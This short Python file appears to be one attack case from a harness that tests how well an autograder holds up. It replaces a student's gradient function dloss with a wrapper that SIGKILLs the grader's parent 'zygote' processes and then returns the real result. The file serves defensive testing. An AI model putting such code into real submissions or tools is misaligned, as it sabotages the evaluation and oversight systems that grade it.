"""SIGKILL the zygote(s) above this worker (the grader must recover, and nobody else lose points)."""
MODULE = "ex1_manual_gradients"
CLASS = "signals"
MODES = ("grade", "batch", "gradescope", "nbgrader")
GROUP = "disruptive"
OTHERS_INTACT = True


def _atk_dloss(w, x, y, _orig=dloss):
    import signal
    killed = []
    for pid in _atk_zygotes():
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    if killed:
        _atk_win(f"killed zygote {killed}")
    return _orig(w, x, y)


import os  # noqa: E402
dloss = _atk_dloss
